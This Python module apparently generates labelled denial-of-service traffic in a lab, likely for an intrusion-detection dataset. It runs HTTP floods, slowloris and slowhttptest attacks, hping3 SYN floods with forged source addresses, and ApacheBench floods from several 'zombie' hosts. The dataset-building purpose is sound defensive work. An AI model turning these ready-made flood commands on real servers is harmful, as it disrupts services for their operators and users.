"""Floods and slow attacks with parameters by chance."""

from __future__ import annotations

import random
from functools import partial

from lab.floods import UNUSED_SOURCES, together
from lab.labels import TCP
from lab.scenarios import Stage
from lab.servers import WEB_PORTS
from lab.variant import Action, attacker_of, run, run_module


def http_flood(style: str, class_name: str, *, page: str = "/") -> Action:
    """Flood with requests over HTTP; a page other than the first may be one that the server is slow to answer."""

    def action(stage: Stage, chance: random.Random) -> None:
        attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
        words = [style, target.ipv4, "--port", port, "--seed", chance.getrandbits(16), "--limit-s", "10"]
        words += ["--requests", chance.choice([150, 300, 500]), "--threads", chance.choice([4, 8, 20, 60])]
        words += ["--page", page]
        tool = f"http_flood {style}{'' if page == '/' else ' --page'}"
        with stage.label(class_name, tool, attacker.ipv4, target.ipv4, port, TCP):
            run_module(attacker, "lab.tools.http_flood", *words, "--pause-s", chance.choice([0.02, 0.2, 0.5]))

    return action


def slow(class_name: str, mode: str, *options: str, page: str = "1m.bin") -> Action:
    """Let slowhttptest hold connections in one of its ways."""

    def action(stage: Stage, chance: random.Random) -> None:
        attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
        seconds = chance.choice([8, 14, 22])
        words = ["-c", str(chance.choice([20, 40, 60])), "-r", str(chance.choice([10, 20, 50])), "-l", str(seconds)]
        words += ["-p", "3", "-v", "0", *(["-i", str(chance.choice([1, 3, 6]))] if mode in "-H -B" else [])]
        url = f"http://{target.ipv4}:{port}/{page}"
        with stage.label(class_name, f"slowhttptest {mode}", attacker.ipv4, target.ipv4, port, TCP):
            run(attacker, "slowhttptest", mode, *words, *options, "-u", url, timeout_s=seconds + 15)

    return action


def slow_http(stage: Stage, chance: random.Random) -> None:
    """Hold connections with headers that never end."""
    attacker, target, port = attacker_of(stage, chance), stage.host("web"), chance.choice(WEB_PORTS)
    words = [target.ipv4, "--port", port, "--seed", chance.getrandbits(16), "--limit-s", chance.choice([8, 15, 25])]
    words += ["--connections", chance.choice([15, 40]), "--interval-s", chance.choice([1.5, 4, 9])]
    with stage.label("DoS slowloris", "slow_http", attacker.ipv4, target.ipv4, port, TCP):
        run_module(attacker, "lab.tools.slow_http", *words)


def looks(chance: random.Random) -> list[str]:
    """Draw what a SYN is like: half of the floods are hping3's as it comes.

    The others have a window of their own, and some ask for congestion notification, bring time stamps, or come from one
    port.
    """
    if chance.random() < 0.5:
        return []
    words = ["-w", str(chance.choice([64, 1024, 2048, 4096, 5840, 8192, 16_384, 29_200, 64_240, 65_535]))]
    words += ["-X", "-Y"] if chance.random() < 0.3 else []
    words += ["--tcp-timestamp"] if chance.random() < 0.25 else []
    return [*words, *(["-k", "-s", str(chance.randint(1024, 65_000))] if chance.random() < 0.2 else [])]


def packet_flood(tool: str, *options: str, has_port: bool = True, is_forged: bool = False) -> Action:
    """Flood from several hosts; what comes back, resets and ICMP, is of the flood, too."""

    def action(stage: Stage, chance: random.Random) -> None:
        zombies, target = stage.host("zombies"), stage.host(chance.choice(["web", "files"]))
        is_open = [80, 443, 3000] if target.name == "web" else [22, 21, 5222]
        port = chance.choice([*is_open, 53, chance.randint(1, 65_535)]) if has_port else None
        pause_us, count = chance.choice([(2_000, 600), (8_000, 300), (30_000, 120)])
        words = ["-q", "-I", "eth0", "-i", f"u{pause_us}", "-c", str(count), *options]
        words += ["-p", str(port)] if has_port else []
        words += ["-d", str(chance.choice([0, 0, 64, 120, 1000]))]
        words += looks(chance) if "-S" in options else []
        sources = chance.sample(UNUSED_SOURCES if is_forged else zombies.all_ipv4, chance.randint(2, 6))
        with stage.label("DDoS", tool, sources, target.ipv4):
            commands = [("hping3", *words, "-a", source, target.ipv4) for source in sources]
            together([partial(run, zombies, *command, timeout_s=15) for command in commands])

    return action


def bench_flood(stage: Stage, chance: random.Random) -> None:
    """Let several hosts ask as fast as they can."""
    zombies, target, port = stage.host("zombies"), stage.host("web"), chance.choice(WEB_PORTS)
    url = f"http://{target.ipv4}:{port}/{chance.choice(['1k.bin', '10k.bin', '', 'app/item?id=4'])}"
    words = ["-q", "-r", "-n", str(chance.choice([30, 80, 200])), "-c", str(chance.choice([2, 4, 8]))]
    words += ["-k"] if chance.random() < 0.3 else []
    sources = chance.sample(zombies.all_ipv4, chance.randint(3, 6))
    with stage.label("DDoS", "ab", sources, target.ipv4, port, TCP):
        together([partial(run, zombies, "ab", *words, "-B", source, url, timeout_s=15) for source in sources])
